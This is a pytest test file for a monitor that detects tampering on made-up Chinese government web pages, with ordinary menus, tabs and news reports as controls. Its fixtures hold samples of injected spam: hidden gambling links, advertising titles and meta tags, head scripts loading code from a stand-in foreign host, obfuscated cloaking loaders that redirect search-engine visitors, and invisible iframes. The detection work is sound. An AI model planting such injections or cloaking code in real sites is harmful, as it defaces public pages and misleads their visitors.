"""Signs of tampering on made-up pages, and the many ordinary pages that look a little like them."""

import pytest

from monitor.model import Reading, Sign, State
from monitor.read.words import advertises
from tests.read.samples import frame, read, rows

HOSTS = ("abcd1", "efgh2", "ijkl3", "mnop4", "qrst5")
SEO = "".join(f"<a href='https://www.{name}.com/'>{name}家具</a>" for name in HOSTS)
ONE = "<a href='http://www.abcd1.com/'>百家乐</a>"
LIST = f"<ul>{rows(['2026-11-02'] * 6, '<li><a href={href}>{title}</a>{date}</li>')}</ul>"
CRACKED = "警方破获一起网络赌博案，涉案人员以百家乐、龙虎斗等方式开设赌场，抓获犯罪嫌疑人12名。"


def page(block: str = "", *, title: str = "通知公告_某某市人民政府", head: str = "") -> Reading:
    """A column with that block in its main part, and that in its head."""
    return read(frame(LIST + block, title=title).replace("</head>", f"{head}</head>"))


def signs(reading: Reading) -> set[str]:
    return {one.why for one in reading.tamper}


def styled(style: str, inside: str = SEO) -> str:
    return f"<div style='{style}'>{inside}</div>"


def sheet(rule: str, block: str) -> str:
    return f"<style>{rule}</style>{block}"


HIDDEN = {
    "display": styled("display:none"),
    "visibility": styled("VISIBILITY: hidden"),
    "off to the left": styled("position:absolute;left:-9999px"),
    "off to the top": styled("position: fixed; top: -999px"),
    "far to the right": styled("position:absolute; left: 99999px"),
    "indented away": styled("text-indent:-9999px"),
    "no height": styled("height:0;overflow:hidden"),
    "one pixel": styled("width:1px; height:1px; overflow:hidden"),
    "no letters": styled("font-size:0"),
    "clipped": styled("position:absolute;clip:rect(0 0 0 0)"),
    "colour on colour": styled("color:#FFF;background:#ffffff"),
    "colour on the colour around it": f"<div style='background-color:white'>{styled('color:#fff')}</div>",
    "font on its ground": f"<table><tr><td bgcolor='#ffffff'><font color='white'>{SEO}</font></td></tr></table>",
    "marquee": f"<marquee height='1' width='4' scrollamount='3000'>{SEO}</marquee>",
    "marquee by style": f"<marquee style='height:0px'>{SEO}</marquee>",
    "by class": sheet(".zq{display:none}", f"<div class='zq'>{SEO}</div>"),
    "by id": sheet("#zq9 { position:absolute; left:-2000px }", f"<div id='zq9'>{SEO}</div>"),
    "by two names": sheet(".u div.zq.v{display:none}", f"<div class='u'><div class='zq v'>{SEO}</div></div>"),
    "by a class after a remark": sheet("/* } */ @charset 'utf-8'; .zq{display:none}", f"<div class='zq'>{SEO}</div>"),
    "written by script": f"<script>document.write('<div style=\"display:none\">')</script><p>{SEO}</p><script>document.write('</div>')</script>",
    "folded by script": f"<div id='q7'>{SEO}</div><script>document.getElementById('q7').style.display='none'</script>",
    "one link that says it": styled("display:none", ONE),
    "one link in a menu": f"<ul class='submenu' style='display:none'><li><a href='/a/'>机构</a></li><li>{ONE}</li></ul>",
    "nothing to click": "".join(f"<a href='https://www.{name}.com/'></a>" for name in HOSTS),
    "a dot to click": "".join(f"<a href='//www.{name}.com/'>.</a>" for name in HOSTS),
}


@pytest.mark.parametrize("block", HIDDEN.values(), ids=HIDDEN.keys())
def test_hidden_links_to_strangers_are_suspected(block: str) -> None:
    found = page(block)
    assert found.state is State.LISTED
    assert Sign.HIDDEN_LINKS in signs(found)
    assert all(one.excerpt for one in found.tamper)


MEDIA = "".join(
    f"<li><a href='http://www.{name}/'>{text}</a></li>"
    for name, text in (("people.com.cn", "人民网"), ("xinhuanet.com", "新华网"), ("cctv.com", "央视网"), ("gmw.cn", "光明网"), ("ifeng.com", "凤凰网"))
)  # fmt: skip
COMPANIES = "".join(f"<li><a href='http://www.{name}.com/'>{name}集团公司</a></li>" for name in HOSTS)
OWN = "".join(f"<li><a href='/{n}/'>{n}号栏目的全部内容</a></li>" for n in range(9))
PUBLIC = "".join(f"<li><a href='http://www.{name}.gov.cn/'>{name}市政府</a></li>" for name in HOSTS)
ORDINARY = {
    "drop-down menu": f"<ul style='display:none'>{OWN}</ul>",
    "menu off to the left": sheet(".sub{position:absolute;left:-9999px}", f"<ul class='sub'>{OWN}</ul>"),
    "hidden list of public bodies": f"<ul style='display:none'>{PUBLIC}</ul>",
    "hidden list of media": f"<div><ul style='display:none'>{MEDIA}</ul></div>",
    "companies behind a drop-down": f"<div class='yqlj'><span>国有企业</span><ul style='display:none'>{COMPANIES}</ul></div>",
    "companies in the second tab": f"<div class='bd'><ul>{PUBLIC}</ul><ul style='display:none'>{COMPANIES}</ul></div>",
    "a tab without names": f"<div><div>{PUBLIC}</div><div style='display:none'>{COMPANIES}</div></div>",
    "visible friends": f"<div>{SEO}</div>",
    "in a remark": f"<!-- <div style='display:none'>{SEO}</div> -->",
    "only in print": sheet("@media print{.p{margin:0}.zq{display:none}}", f"<div class='zq'>{SEO}</div>"),
    "only on small screens": sheet("@media (max-width:768px){.zq{display:none}.y{color:red}} .x{color:red}", f"<div class='zq'>{SEO}</div>"),
    "shown again": sheet(".zq{display:none} .zq{display:block}", f"<div class='zq'>{SEO}</div>"),
    "shown by its own style": sheet(".zq{display:none}", f"<div class='zq' style='display:block'>{SEO}</div>"),
    "gaps closed": f"<div style='font-size:0'>{SEO.replace('<a ', '<a class=x ')}</div>",
    "one counter": styled("display:none", "<a href='https://www.cnzz.com/stat/?id=1'>站长统计</a>"),
    "one builder": styled("display:none", "<a href='http://www.abcd1.com/'>技术支持</a>"),
    "screen reader": "<a href='#main' style='position:absolute;left:-9999px'>跳到主要内容区</a>",
    "icons": "".join(f"<a class='icon' href='https://www.{name}.com/'></a>" for name in HOSTS),
    "left-over of an editor": "<p>通知如下<a href='http://www.abcd1.com/x.html'></a></p>",
    "a carousel": f"<div style='position:relative;left:-1190px'>{OWN}</div>",
    "mobile menu": sheet(".m-nav{display:none}", f"<div class='m-nav'>{OWN}</div>"),
    "white on a picture": f"<div class='banner'><font color='white'>{SEO}</font></div>",
}  # fmt: skip


@pytest.mark.parametrize("block", ORDINARY.values(), ids=ORDINARY.keys())
def test_what_menus_tabs_and_friends_hide_is_ordinary(block: str) -> None:
    assert page(block).tamper == ()


TITLES = {
    "plain": "澳门新葡京官网_某某市人民政府",
    "letters as numbers": "&#28595;&#38376;&#26032;&#33889;&#20140;-某某市人民政府",
    "coded twice": "&amp;#28595;&amp;#38376;&amp;#26032;&amp;#33889;&amp;#20140;-某某市人民政府",
    "dots between": "澳·门·新·葡·京_某某市人民政府",
    "Latin": "BET365体育在线-通知公告",
    "two subjects": "时时彩_百家乐_某某局",
    "an offer": "棋牌游戏下载-某某局",
    "pornography": "亚洲无码在线观看_某某局",
    "drugs": "迷情药货到付款-某某局",
    "loans": "黑户贷款_秒下款口子-某某局",
}


@pytest.mark.parametrize("title", TITLES.values(), ids=TITLES.keys())
def test_a_title_that_advertises_is_suspected(title: str) -> None:
    found = page(title=title)
    assert found.state is State.LISTED, "the site itself still stands there"
    assert signs(found) == {Sign.TITLE}


HEADINGS = (
    "我市公安机关严厉打击网络赌博违法犯罪活动",
    "某局关于警惕“百家乐”等网络赌博陷阱的提示",
    "民警进校园讲解“听话水”“迷情药”的危害",
    "禁毒专栏",
    "福彩双色球第2026101期开奖公告",
    "中国体育彩票超级大乐透开奖结果",
    "重庆时时彩停售公告（市福彩中心）",
    "关于做好2026年创业担保贷款贴息工作的通知",
    "国家助学贷款申请指南",
    "我市普惠小微无抵押贷款余额突破百亿元",
    "公积金贷款额度上调",
    "娱乐场所经营许可证办理",
    "关于公布第三批棋牌室消防检查结果的通告",
    "税务机关代开发票服务点一览",
    "工业大麻种植许可",
    "澳门威尼斯人酒店举办我市文旅推介会",
    "扫黄打非·净网2026集中整治",
    "谨防“注册送彩金”骗局",
    "百家讲坛进我市",
    "城市A片区控制性详细规划",
)


@pytest.mark.parametrize("text", HEADINGS)
def test_reports_and_services_are_no_advertisement(text: str) -> None:
    item = f"<li><a href='/x.html'>{text}</a><span>2026-11-03</span></li>"
    found = page(
        f"<ul>{item * 3}</ul><h2>{text}</h2>",
        title=f"{text}_某某市人民政府",
        head=f"<meta name='keywords' content='{text}'>",
    )
    assert found.tamper == ()


PROSE = {
    "a crackdown": CRACKED,
    "a crackdown of several paragraphs": CRACKED + "</p><p>经查，该团伙建立“真人百家乐”等玩法，吸引他人投注，非法获利300万元。</p><p>" + CRACKED,
    "advice": "请市民切勿相信“注册送彩金”“现金棋牌”等宣传，一旦被骗请拨打110。",
    "loans": "对符合条件的个人发放创业担保贷款，财政给予贴息，无抵押贷款最高20万元，可在线申请。",
    "a lottery office": "本期双色球、快三、时时彩开奖公告由市福利彩票发行中心发布，投注站兑奖。",
    "business scope": "经营范围：体育用品、成人用品、计算机软件开发与销售。",
}  # fmt: skip


@pytest.mark.parametrize("text", PROSE.values(), ids=PROSE.keys())
def test_running_text_that_reports_is_ordinary(text: str) -> None:
    assert page(f"<h1>市里的一条消息</h1><p>{text}</p>").tamper == ()


def test_a_report_whose_heading_says_what_it_fights() -> None:
    body = "<p>“真人百家乐”“老虎机游戏”如何做手脚？记者体验了一回，注册只要一分钟。</p>"
    assert page(f"<h1>民警揭秘网络赌博</h1>{body}").tamper == ()


def test_words_put_in_place_of_a_documents_own() -> None:
    text = "第一条　为规范政府网站管理，根据有关规定，结合澳门新葡京官网实际，制定本办法。第二条　bet365在线办公室负责本办法的实施。"
    assert signs(page(f"<h1>某某市政府网站管理办法</h1><p>{text}</p>")) == {Sign.TEXT}


@pytest.mark.parametrize("name", ["keywords", "Description"])
def test_page_tags_that_advertise(name: str) -> None:
    assert signs(page(head=f"<meta name='{name}' content='百家乐,真人娱乐城,老虎机'>")) == {Sign.TAGS}


def test_a_list_into_which_links_were_put() -> None:
    block = "<ul>" + "".join(f"<li><a href='/tzgg/{n}.html'>真人百家乐第{n}期</a></li>" for n in range(4)) + "</ul>"
    assert signs(page(block)) == {Sign.LINKS}


def test_hidden_words_without_a_link() -> None:
    found = page("<div style='display:none'>百家乐官网，六合彩资料，注册送彩金，真人荷官在线</div>")
    assert signs(found) == {Sign.HIDDEN_WORDS}


def test_a_page_that_is_nothing_but_spam_is_hijacked() -> None:
    text = "<h1>真人娱乐城官网</h1><p>百家乐官网，老虎机游戏，注册送彩金，六合彩资料，时时彩计划，捕鱼游戏平台。</p><a href='http://www.abcd1.com/'>立即注册</a>"
    body = f"<html><head><title>真人娱乐城_百家乐官网</title></head><body>{text}</body></html>"
    assert read(body, "site").state is State.HIJACKED
    assert read(body.replace("<title>", "<title>警惕诈骗："), "site").state is not State.HIJACKED


HEAD_SCRIPTS = {
    "of a stranger": "<script src='https://qxw7.com/js/a1.js'></script>",
    "without a scheme": "<script src='//qxw7.com/k.js'></script>",
    "of a cloak": "<script type='text/javascript' src='/js/kb.js'></script>",
}


@pytest.mark.parametrize("head", HEAD_SCRIPTS.values(), ids=HEAD_SCRIPTS.keys())
def test_a_script_put_into_the_head(head: str) -> None:
    found = page(head=head)
    assert signs(found) == {Sign.SCRIPT}
    assert found.tamper[0].excerpt in head


ORDINARY_SCRIPTS = (
    "<script src='https://hm.baidu.com/hm.js?1'></script>",
    "<script src='//dcs.conac.cn/js/33/000/0000/1/CA1.js'></script>",
    "<script src='http://pucha.kaipuyun.cn/exposure/jiucuo.js'></script>",
    "<script src='//cdn.jsdelivr.net/npm/vue'></script>",
    "<script src='https://tongji.qxw7.com/t.js'></script>",
    "<script src='http://www.qxw7.com/visit/counter.js'></script>",
    "<script src='http://static.shi.gov.cn/a.js'></script>",
    "<script src='http://www.sheng.gov.cn/z.js'></script>",
    "<script src='/js/jquery.js'></script><script src='/js/kb.js'></script>",
    "<script src='../js/kb.js'></script>",
    "<script src='http://img.qxw7.com/z.js'></script><link rel='stylesheet' href='http://img.qxw7.com/z.css'>",
    "<script>var r = document.referrer; if (r.indexOf('baidu') > 0) { count(r) }</script>",
    "<script>if (/mobile/i.test(navigator.userAgent)) { location.href = '/m/' }</script>",
    "<script>document.write('<div style=\"display:none\"></div>')</script>",
)


@pytest.mark.parametrize("head", ORDINARY_SCRIPTS)
def test_scripts_of_services_and_of_the_site_are_ordinary(head: str) -> None:
    assert page(head=head).tamper == ()


def test_a_widget_of_a_stranger_within_the_page_is_ordinary() -> None:
    assert page("<div class='tq'><script src='https://qxw7.com/w.js'></script></div>").tamper == ()


CLOAKS = (
    "if(/baidu|sogou|so\\.com/.test(document.referrer)){location.href='http://qxw7.com/'}",
    "if(navigator.userAgent.toLocaleLowerCase().indexOf('baidu')==-1){document.title='某某市人民政府'}",
    "window['\\x64\\x6f\\x63']['\\x77\\x72']('\\x3c\\x73\\x63\\x72\\x69\\x70\\x74 ')".replace(
        "t ", "t\\x20\\x73\\x72\\x63"
    ),
    f"eval(String.fromCharCode({','.join(str(ord(letter)) for letter in '<script src=//qxw7.com/a.js>')}))",
)


@pytest.mark.parametrize("code", CLOAKS)
def test_code_that_hides_what_it_does(code: str) -> None:
    assert signs(page(head=f"<script>{code}</script>")) == {Sign.CLOAK}


@pytest.mark.parametrize(("frame_tag", "suspected"), [
    ("<iframe src='http://qxw7.com/' width='0' height='0'></iframe>", True),
    ("<iframe src='http://qxw7.com/' style='display:none'></iframe>", True),
    ("<iframe src='http://qxw7.com/' style='position: fixed; width: 100%; height: 100%'></iframe>", True),
    ("<iframe src='http://qxw7.com/tianqi' width='300' height='60'></iframe>", False),
    ("<iframe src='http://www.sheng.gov.cn/sso' style='display:none'></iframe>", False),
    ("<iframe name='up' style='display:none'></iframe>", False),
    ("<iframe src='https://i.tianqi.com/?c=code' width='1'></iframe>", False),
])  # fmt: skip
def test_frames_that_nobody_is_to_see(frame_tag: str, suspected: bool) -> None:
    assert signs(page(frame_tag)) == ({Sign.FRAME} if suspected else set())


def test_an_excerpt_shows_the_word_and_is_short() -> None:
    shown = advertises("某" * 3000 + "澳门新葡京" + "某" * 900)
    assert shown is not None
    assert "澳门新葡京" in shown
    assert len(shown) < 140
